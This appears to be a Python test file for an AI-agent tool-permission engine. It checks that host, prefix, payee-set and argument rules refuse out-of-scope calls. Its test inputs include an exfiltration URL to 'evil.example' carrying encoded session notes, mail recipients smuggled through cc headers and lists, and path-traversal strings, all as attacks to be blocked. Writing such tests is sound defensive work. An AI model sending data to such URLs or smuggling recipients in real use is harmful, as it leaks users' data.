"""Target and argument rules (docs/policies.md): an allowed tool is no longer
allowed on *any* target. Each test first shows the attack as it went on the mandate of
before (tool names only), then the same call under a mandate with rules."""

from __future__ import annotations

from quorumgate.proto.model import (
    Admin,
    ArgCheck,
    Argument,
    ArgumentRule,
    DelegationPolicy,
    Enforcement,
    Mandate,
    Outcome,
    Reason,
    RuleKind,
    SetEntries,
    SetMandate,
    TargetRule,
    Tier,
    ToolMode,
    ToolRules,
)
from quorumgate.sidecar.engine.rules import target_host
from quorumgate.sidecar.engine.state import EngineState
from tests.engine.harness import World, replay

EXFIL = "https://evil.example/exfil?d=c2Vzc2lvbi1ub3Rlcw"


def host_suffix(value: str, mode: ToolMode | None = None) -> TargetRule:
    return TargetRule(RuleKind.HOST_SUFFIX, value, mode)


def world() -> World:
    # these tests probe one rule per run to see each verdict: the cross-run latch (which
    # would refuse a pair refused in 3 runs everywhere) is out of their way
    w = World(overrides={"latch_cross_run_threshold": 1_000})
    w.add_tool("http.get", mode=ToolMode.READ)
    w.add_tool("mail.send", schemes=("mailto",))
    w.add_tool("files.read", mode=ToolMode.READ, schemes=("file",))
    w.add_tool("payments.send", mode=ToolMode.USER_CONFIRM, schemes=("iban", "https"))
    return w


def amount(value: str) -> Argument:
    return Argument(name="amount", text=value)


# ------------------------------------------------------------------ the attacks


def test_an_allowed_read_tool_no_longer_fetches_the_attackers_page() -> None:
    w = world()
    w.add_agent("naive", ["http.get"])  # the mandate of before: a tool name, any target
    assert w.propose("naive", "http.get", EXFIL).outcome is Outcome.ALLOW
    w.add_agent(
        "scoped", ["http.get"], rules=[ToolRules("http.get", (host_suffix("example.com"),))]
    )
    assert w.propose("scoped", "http.get", "https://docs.example.com/a").outcome is Outcome.ALLOW
    denied = w.propose("scoped", "http.get", EXFIL)
    assert (denied.outcome, denied.reason) == (Outcome.DENY, Reason.OUT_OF_SCOPE)
    # A scope denial, so latched: the tool is refused for the rest of the run...
    again = w.propose("scoped", "http.get", "https://docs.example.com/a")
    assert again.reason is Reason.REPEAT_DENIED
    # ...and not in another run.
    other = w.propose("scoped", "http.get", "https://docs.example.com/a", run="run-2")
    assert other.outcome is Outcome.ALLOW


def test_mail_to_the_attackers_domain_is_refused_whatever_the_spelling() -> None:
    w = world()
    w.add_agent("naive", ["mail.send"])
    assert w.propose("naive", "mail.send", "mailto:billing-verify@evil.example").outcome is (
        Outcome.ALLOW
    )
    rules = [ToolRules("mail.send", (host_suffix("example.com"),))]
    w.add_agent("mailer", ["mail.send"], rules=rules)
    for k, target in enumerate(
        ("mailto:bob@example.com", "mailto:bob@EXAMPLE.COM", "mailto:a@eu.Example.com")
    ):
        verdict = w.propose("mailer", "mail.send", target, run=f"ok-{k}")
        assert verdict.outcome is Outcome.ALLOW, (target, verdict.reason)
    for k, target in enumerate(
        (
            "mailto:billing-verify@evil.example",
            "mailto:bob@example.com.evil.example",
            "mailto:bob@notexample.com",
        )
    ):
        verdict = w.propose("mailer", "mail.send", target, run=f"no-{k}")
        assert verdict.reason is Reason.OUT_OF_SCOPE, target
    # A second recipient cannot ride along as a header field or a list.
    for target in (
        "mailto:bob@example.com?cc=x@evil.example",
        "mailto:bob@example.com,x@evil.example",
    ):
        assert w.propose("mailer", "mail.send", target, run="hdr").reason is Reason.MALFORMED_TARGET


# ------------------------------------------------------------------ rule kinds


def test_prefix_rules_stop_at_segment_boundaries_and_bind_the_caller() -> None:
    w = world()
    rules = [
        ToolRules(
            "files.read",
            (
                TargetRule(RuleKind.PREFIX, "/data/reports"),
                TargetRule(RuleKind.PREFIX, "/home/CURRENT_USER"),
            ),
        )
    ]
    w.add_agent("alice", ["files.read"], rules=rules)
    w.add_agent("bob", ["files.read"])
    for k, target in enumerate(
        ("/data/reports", "/data/reports/q1.csv", "/home/alice/notes", "/home/CURRENT_USER/x",
         "file:///data/reports/./q2.csv")
    ):  # fmt: skip
        verdict = w.propose("alice", "files.read", target, run=f"ok-{k}")
        assert verdict.outcome is Outcome.ALLOW, (target, verdict.reason)
    for k, target in enumerate(
        ("/data/reportsX", "/data/report", "/home/bob/notes", "/data/reports/../secrets",
         "/home/alice2")
    ):  # fmt: skip
        verdict = w.propose("alice", "files.read", target, run=f"no-{k}")
        assert verdict.reason is Reason.OUT_OF_SCOPE, target


def test_exact_and_host_rules() -> None:
    w = world()
    rules = [
        ToolRules(
            "http.get",
            (
                TargetRule(RuleKind.EXACT, "https://status.example.com/"),
                TargetRule(RuleKind.HOST, "api.example.com"),
            ),
        )
    ]
    w.add_agent("a", ["http.get"], rules=rules)
    allowed = ("https://STATUS.example.com", "https://api.example.com:443/v1?q=1")
    for k, target in enumerate(allowed):
        assert w.propose("a", "http.get", target, run=f"ok-{k}").outcome is Outcome.ALLOW, target
    refused = (
        "https://status.example.com/x",
        "https://www.api.example.com/",
        "https://api.example.com:8443/",
    )
    for k, target in enumerate(refused):
        assert w.propose("a", "http.get", target, run=f"no-{k}").reason is Reason.OUT_OF_SCOPE


def test_target_host_reads_canonical_targets_only() -> None:
    assert target_host("https://api.example.com/x") == "api.example.com"
    assert target_host("https://api.example.com:8443/x") == "api.example.com"
    assert target_host("https://[2001:db8::1]/") == "[2001:db8::1]"
    assert target_host("mailto:bob@example.com") == "example.com"
    assert target_host("/etc/passwd") is None and target_host("principal:alice") is None


# ------------------------------------------------------------------ sets and modes


def test_a_known_payee_runs_directly_and_a_new_one_needs_confirmation() -> None:
    w = world()
    rules = [
        ToolRules(
            "payments.send",
            (
                TargetRule(RuleKind.SET, "payees", ToolMode.DIRECT),
                TargetRule(RuleKind.ANY),  # anyone else: the tool's mode, user_confirm
            ),
        )
    ]
    w.add_agent("billing", ["payments.send"], rules=rules)
    payee = "https://pay.example.com/acct/77"
    assert w.propose("billing", "payments.send", payee).outcome is Outcome.PENDING
    w.admin(SetEntries("billing", "payees", (TargetRule(RuleKind.EXACT, payee),)))
    assert w.propose("billing", "payments.send", payee).outcome is Outcome.ALLOW
    newcomer = w.propose("billing", "payments.send", "https://pay.example.com/acct/99")
    assert newcomer.outcome is Outcome.PENDING and newcomer.card is not None
    assert newcomer.card.mode is ToolMode.USER_CONFIRM
    # Deleting the set (no entries) puts the payee back behind confirmation.
    w.admin(SetEntries("billing", "payees", ()))
    assert w.propose("billing", "payments.send", payee).outcome is Outcome.PENDING


def test_sets_are_per_agent_and_refuse_non_canonical_entries() -> None:
    w = world()
    rules = [ToolRules("http.get", (TargetRule(RuleKind.SET, "allowed_domains"),))]
    w.add_agent("a", ["http.get"], rules=rules)
    w.add_agent("b", ["http.get"], rules=rules)
    w.admin(SetEntries("a", "allowed_domains", (host_suffix("example.com"),)))
    assert w.propose("a", "http.get", "https://x.example.com/").outcome is Outcome.ALLOW
    assert w.propose("b", "http.get", "https://x.example.com/").reason is Reason.OUT_OF_SCOPE
    for bad in (host_suffix("Example.com"), TargetRule(RuleKind.PREFIX, "HTTPS://example.com/")):
        verdict = w.one(w.owner, Admin(SetEntries("a", "allowed_domains", (bad,))))
        assert (verdict.outcome, verdict.reason) == (Outcome.REJECTED, Reason.INVALID_SPEC)
    unknown = w.one(w.owner, Admin(SetEntries("nobody", "payees", (host_suffix("x.com"),))))
    assert unknown.reason is Reason.UNKNOWN_AGENT


def test_a_mandate_with_non_canonical_rule_values_is_refused() -> None:
    w = world()
    w.add_agent("a", ["http.get"])
    for bad in (
        TargetRule(RuleKind.HOST, "Example.com"),
        TargetRule(RuleKind.HOST_SUFFIX, "example.com:443"),
        TargetRule(RuleKind.EXACT, "https://example.com"),  # canonical: a trailing /
        TargetRule(RuleKind.PREFIX, "/data/../etc"),
        TargetRule(RuleKind.EXACT, "principal:bob"),  # no rule names another principal
    ):
        mandate = Mandate(("http.get",), rules=(ToolRules("http.get", (bad,)),))
        verdict = w.one(w.owner, Admin(SetMandate("a", mandate)))
        assert (verdict.outcome, verdict.reason) == (Outcome.REJECTED, Reason.INVALID_SPEC), bad


# ------------------------------------------------------------------ arguments


def test_argument_ceilings_enumerations_and_lengths() -> None:
    w = world()
    rules = [
        ToolRules(
            "payments.send",
            (TargetRule(RuleKind.ANY, mode=ToolMode.DIRECT),),
            (
                ArgumentRule("amount", ArgCheck.MAX, number="500"),
                ArgumentRule("currency", ArgCheck.ONE_OF, values=("CHF", "EUR")),
                ArgumentRule("memo", ArgCheck.MAX_CHARS, count=10),
            ),
        )
    ]
    w.add_agent("a", ["payments.send"], rules=rules)
    payee = "https://pay.example.com/acct/1"

    def pay(run: str, *args: Argument) -> Reason:
        return w.propose("a", "payments.send", payee, run=run, args=args).reason

    ok = (Argument(name="currency", text="EUR"), Argument(name="memo", text="rent"))
    for k, value in enumerate(("500", "499.99", "0500", "500.000", "0")):
        assert pay(f"ok-{k}", amount(value), *ok) is Reason.OK, value
    for k, value in enumerate(
        ("500.01", "501", "\u0665\u0660\u0660", "5e2", "-1", " 500", "500,00", "")
    ):
        assert pay(f"no-{k}", amount(value), *ok) is Reason.OUT_OF_SCOPE, value
    assert pay("missing", *ok) is Reason.OUT_OF_SCOPE
    assert pay("usd", amount("5"), Argument(name="currency", text="USD"), ok[1]) is (
        Reason.OUT_OF_SCOPE
    )
    assert pay("long", amount("5"), ok[0], Argument(name="memo", text="x" * 11)) is (
        Reason.OUT_OF_SCOPE
    )


# ------------------------------------------------------------------ grants and modes


def test_a_grant_only_narrows_targets_and_never_relaxes_a_mode() -> None:
    w = world()
    parent_rules = [
        ToolRules("http.get", (host_suffix("example.com"),)),
        ToolRules("payments.send", (TargetRule(RuleKind.ANY),)),
    ]
    w.add_agent(
        "boss",
        ["http.get", "payments.send"],
        policy=DelegationPolicy.ATTENUATED,
        rules=parent_rules,
    )
    w.add_agent("helper", None)
    grant_rules = [
        # narrower than the parent: allowed within
        ToolRules(
            "http.get", (TargetRule(RuleKind.HOST, "api.example.com"), host_suffix("evil.example"))
        ),
        # a grant naming `direct` cannot undo the tool's user_confirm
        ToolRules("payments.send", (TargetRule(RuleKind.ANY, mode=ToolMode.DIRECT),)),
    ]
    grant = w.delegate("boss", "helper", rules=grant_rules)
    assert grant.outcome is Outcome.APPLIED, grant.reason
    g = grant.tx_id

    def call(tool: str, target: str, run: str = "run-1") -> tuple[Outcome, Reason]:
        v = w.propose("helper", tool, target, run=run, grant=g)
        return v.outcome, v.reason

    assert call("http.get", "https://api.example.com/x") == (Outcome.ALLOW, Reason.OK)
    # the grant's own rule would admit evil.example, the parent's mandate does not
    assert call("http.get", "https://evil.example/") == (Outcome.DENY, Reason.OUT_OF_SCOPE)
    assert call("payments.send", "https://pay.example.com/1") == (
        Outcome.PENDING,
        Reason.CONFIRMATION_REQUIRED,
    )


def test_a_rule_that_runs_a_master_only_tool_directly_still_refuses_a_delegate() -> None:
    # authority version 2: a delegate's mandate without rules pins the tool's mode
    # (version 3's deferral: tests/engine/test_delegates_defer.py)
    w = World(overrides={"authority_version": 2})
    w.add_tool("order.finalize", mode=ToolMode.USER_CONFIRM, min_tier=Tier.MASTER)
    direct = [ToolRules("order.finalize", (TargetRule(RuleKind.ANY, mode=ToolMode.DIRECT),))]
    w.add_agent("boss", ["order.finalize"], policy=DelegationPolicy.ATTENUATED, rules=direct)
    w.add_agent("helper", None)
    assert w.propose("boss", "order.finalize").outcome is Outcome.ALLOW
    g = w.delegate("boss", "helper").tx_id
    # The helper's own mandate says nothing: the tool's mode, so its call waits for a
    # confirmation (which checks the tier)...
    assert w.propose("helper", "order.finalize", grant=g).outcome is Outcome.PENDING
    # ...and with both mandates saying `direct`, the tier is checked at once.
    w.set_mandate("helper", None, rules=direct)
    assert w.propose("helper", "order.finalize", grant=g).reason is Reason.TIER_INSUFFICIENT


def test_observe_mode_flags_a_rule_miss() -> None:
    w = world()
    rules = [ToolRules("http.get", (host_suffix("example.com"),))]
    w.add_agent("watch", ["http.get"], enforcement=Enforcement.OBSERVE, rules=rules)
    verdict = w.propose("watch", "http.get", EXFIL)
    assert (verdict.outcome, verdict.reason) == (Outcome.FLAG, Reason.OUT_OF_SCOPE_OBSERVED)


def test_a_confirmation_is_judged_against_the_rules_as_they_are_then() -> None:
    w = world()
    rules = [ToolRules("payments.send", (host_suffix("example.com"),))]
    w.add_agent("a", ["payments.send"], rules=rules)
    pending = w.propose("a", "payments.send", "https://pay.example.com/1")
    assert pending.outcome is Outcome.PENDING and pending.card is not None
    narrower = [ToolRules("payments.send", (TargetRule(RuleKind.HOST, "bank.example.com"),))]
    w.set_mandate("a", ["payments.send"], rules=narrower)
    # "a" was registered without a principal: it acts for the owner, who answers its cards
    confirmed = w.confirm(w.owner, pending.tx_id, pending.card_digest)
    assert (confirmed.outcome, confirmed.reason) == (Outcome.DENY, Reason.OUT_OF_SCOPE)


# ------------------------------------------------------------------ state


def test_rules_and_sets_survive_the_state_bytes_and_a_replay() -> None:
    w = world()
    rules = [
        ToolRules(
            "payments.send",
            (TargetRule(RuleKind.SET, "payees", ToolMode.DIRECT), TargetRule(RuleKind.ANY)),
            (ArgumentRule("amount", ArgCheck.MAX, number="10.5"),),
        )
    ]
    w.add_agent("a", ["payments.send"], policy=DelegationPolicy.ATTENUATED, rules=rules)
    w.add_agent("b", None)
    w.admin(SetEntries("a", "payees", (TargetRule(RuleKind.HOST, "pay.example.com"),)))
    w.delegate("a", "b", rules=[ToolRules("payments.send", (host_suffix("example.com"),))])
    data = w.engine.state_bytes()
    assert EngineState.from_bytes(data).to_bytes() == data
    engine, _ = replay(w)
    assert engine.state_bytes() == data
